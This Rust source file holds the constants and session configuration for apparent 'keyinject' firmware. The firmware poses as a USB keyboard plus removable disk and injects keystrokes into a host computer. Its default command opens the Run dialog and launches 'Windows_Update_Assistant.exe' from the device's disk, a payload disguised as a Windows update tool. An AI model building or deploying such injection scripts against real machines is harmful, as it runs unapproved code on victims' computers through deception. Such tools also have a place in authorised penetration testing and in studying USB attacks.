//! Application-wide constants and session configuration.
//!
//! USB identity, medium geometry and default timings live here so they can
//! be tuned in one place. The sequencer itself never reads these constants
//! directly: it is handed an [`InjectionConfig`] at session start.

use crate::script::InjectionScript;

// USB

/// USB VID/PID - use the "pid.codes" open-source test VID.
/// Replace with your own allocated VID/PID for production.
pub const USB_VID: u16 = 0x1209;
pub const USB_PID: u16 = 0x0002;

/// USB device strings.
pub const USB_MANUFACTURER: &str = "keyinject";
pub const USB_PRODUCT: &str = "Composite Keyboard + Disk";
pub const USB_SERIAL_NUMBER: &str = "000001";

/// USB HID polling interval (ms).
pub const USB_HID_POLL_MS: u8 = 10;

/// Max packet size of the full-speed bulk endpoints.
pub const MSC_PACKET_SIZE: u16 = 64;

/// Strings reported in the SCSI INQUIRY response (space padded on the wire).
pub const SCSI_VENDOR: &str = "keyinjct";
pub const SCSI_PRODUCT: &str = "Removable Disk";
pub const SCSI_REVISION: &str = "0.1";

// Medium

/// Logical block size in bytes. Fixed by the bulk-only transport contract.
pub const BLOCK_SIZE: u32 = 512;

/// Number of logical blocks reported to the host (512 MiB).
pub const BLOCK_COUNT: u32 = 1024 * 1024;

// Timing defaults (ms)

/// Poll interval while waiting for the host to address the device.
pub const LINK_POLL_MS: u64 = 100;

pub const HID_POLL_MS: u32 = 10;
pub const HID_TIMEOUT_MS: u32 = 10_000;
pub const STORAGE_POLL_MS: u32 = 100;
pub const STORAGE_ATTEMPTS: u32 = 50;
/// Host-side recognition of the new keyboard and volume takes seconds.
pub const SETTLE_MS: u32 = 8_000;
pub const CHORD_HOLD_MS: u32 = 100;
pub const KEY_HOLD_MS: u32 = 50;
pub const KEY_GAP_MS: u32 = 50;
pub const PHASE_GAP_MS: u32 = 500;

// Script

/// Command typed into the Run dialog by the default script.
pub const DEFAULT_COMMAND: &str = "start D:\\Windows_Update_Assistant.exe";

/// Delays and bounds used by the sequencer.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[cfg_attr(feature = "defmt", derive(defmt::Format))]
pub struct Timing {
    /// Poll interval while waiting for the HID interface.
    pub hid_poll_ms: u32,
    /// Give up on the HID interface after this long. `None` waits forever.
    pub hid_timeout_ms: Option<u32>,
    /// Poll interval while waiting for the first capacity inquiry.
    pub storage_poll_ms: u32,
    /// Number of storage polls before proceeding without it.
    pub storage_attempts: u32,
    /// Unconditional delay between readiness and the first key stroke.
    pub settle_ms: u32,
    /// Hold time of a modifier chord before its release report.
    pub chord_hold_ms: u32,
    /// Hold time of a single key before its release report.
    pub key_hold_ms: u32,
    /// Gap after every release report.
    pub key_gap_ms: u32,
    /// Gap between consecutive script phases.
    pub phase_gap_ms: u32,
}

impl Default for Timing {
    fn default() -> Self {
        Self {
            hid_poll_ms: HID_POLL_MS,
            hid_timeout_ms: Some(HID_TIMEOUT_MS),
            storage_poll_ms: STORAGE_POLL_MS,
            storage_attempts: STORAGE_ATTEMPTS,
            settle_ms: SETTLE_MS,
            chord_hold_ms: CHORD_HOLD_MS,
            key_hold_ms: KEY_HOLD_MS,
            key_gap_ms: KEY_GAP_MS,
            phase_gap_ms: PHASE_GAP_MS,
        }
    }
}

/// Everything the sequencer needs for one session.
#[derive(Clone, Debug, Default)]
pub struct InjectionConfig<'a> {
    pub script: InjectionScript<'a>,
    pub timing: Timing,
}

impl<'a> InjectionConfig<'a> {
    pub fn new(script: InjectionScript<'a>, timing: Timing) -> Self {
        Self { script, timing }
    }
}
